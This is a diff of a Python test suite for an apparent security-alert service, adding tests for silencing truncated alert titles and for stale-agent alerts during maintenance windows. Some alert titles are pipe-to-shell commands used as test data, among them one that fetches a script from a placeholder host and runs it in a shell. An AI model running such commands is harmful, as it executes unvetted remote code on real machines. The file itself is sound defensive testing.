@@ -4,6 +4,7 @@ maintenance windows for stale agents. Time moves by an injected clock, never by 
 from __future__ import annotations
 
 import asyncio
+import functools
 import json
 
 import aiohttp
@@ -66,7 +67,7 @@ async def hooked(aiohttp_client, settings, receiver):
 async def test_a_silenced_signal_is_stored_quiet_and_unforwarded_until_the_silence_ends(hooked):
     client, clock, receiver = hooked
     made = await silence(client, **BUILD, title="curl * | sh")
-    assert (made["state"], made["created_by"], made["signals"]) == ("active", "analyst", 0)
+    assert (made["state"], made["created_by"], made["signals"]) == ("active", "admin", 0)
     await ingest(client, noisy("quiet-1"), noisy("other-title", title="curl x | bash"),
                  noisy("other-host", host_id="dev-mac"))
     await ingest(client, noisy("quiet-2"), make_signal("after-it"))
@@ -103,6 +104,25 @@ async def _has(receiver, signal_id):
     return signal_id in receiver.ids()
 
 
+async def test_a_silence_matches_what_is_stored_and_makes_ingest_refuse_nothing(hooked):
+    client, _, receiver = hooked
+    long_title = "curl https://get.example/" + "x" * 600 + " | sh"
+    await ingest(client, noisy("a" * 32, title=long_title))
+    first = await get(client, f"/signals/{'a' * 32}")
+    assert first["shortened"] == ["title"] and len(first["title"]) == 512
+    # The analyst silences the title as the console shows it: the cut one.
+    made = await silence(client, **BUILD, title=first["title"])
+    await ingest(client, noisy("b" * 32, title=long_title),
+                 noisy("c" * 32, title=long_title, context={"blob": "y" * 300_000}))
+    for signal_id, shortened in (("b" * 32, ["title"]), ("c" * 32, ["context", "title"])):
+        stored = await get(client, f"/signals/{signal_id}")
+        assert (stored["silence_id"], stored["shortened"]) == (made["id"], shortened)
+    assert (await get(client, "/silences"))["silences"][0]["signals"] == 2
+    await eventually(lambda: _has(receiver, "a" * 32))
+    await asyncio.sleep(0.3)  # forwarding runs every 0.1 s: the silenced ones never come
+    assert receiver.ids() == ["a" * 32]
+
+
 async def test_expiring_a_silence_now_keeps_it_for_the_record(hooked):
     client, clock, _ = hooked
     made = await silence(client, host_id="build-mac")
@@ -111,7 +131,7 @@ async def test_expiring_a_silence_now_keeps_it_for_the_record(hooked):
     response = await client.delete(f"/silences/{made['id']}", headers=ANALYST)
     assert response.status == 200, await response.text()
     expired = await response.json()
-    assert (expired["state"], expired["expired_by"]) == ("expired", "analyst")
+    assert (expired["state"], expired["expired_by"]) == ("expired", "admin")
     await ingest(client, noisy("loud"))
     assert await queue(client) == ["loud"]
     assert await queue(client, silenced="true") == ["quiet"]
@@ -237,6 +257,28 @@ async def test_a_maintenance_window_holds_the_stale_alert_until_it_ends(aiohttp_
     assert alerts[0]["silence_id"] is None and alerts[0]["severity"] == "high"
     await asyncio.sleep(0.3)
     assert len(await _alerts_for(client, "mac-repair")) == 1
+
+
+async def test_hosts_in_maintenance_are_not_counted_as_many_agents_at_once(aiohttp_client,
+                                                                            settings):
+    clock = FakeClock()
+    client = await aiohttp_client(create_app(settings.model_copy(update={
+        **FAST, "stale_after": 180, "stale_summary_threshold": 3}), clock=clock))
+    office, repair = ["office-0", "office-1", "office-2"], ["repair-0", "repair-1"]
+    for name in office + repair:
+        await client.post("/agents/heartbeat", headers=AGENT,
+                          json={**sample("heartbeat"), "agent_id": name})
+    for name in repair:
+        await silence(client, host_id=name, rule_id="AGENT-STALE", duration="1d",
+                      comment="in repair")
+    clock.advance(400)
+    for name in office + repair:
+        await eventually(functools.partial(_stale, client, name))
+    # Five went silent in one check, but two were expected to: three alerts, not one for many.
+    alerts = await get(client, "/signals", rule_id="AGENT-STALE", status="all")
+    assert sorted(a["host_id"] for a in alerts["signals"]) == office
+    assert (await get(client, "/signals", rule_id="AGENT-STALE-MANY", status="all",
+                      silenced="all"))["signals"] == []
 
 
 async def _stale(client, agent_id):
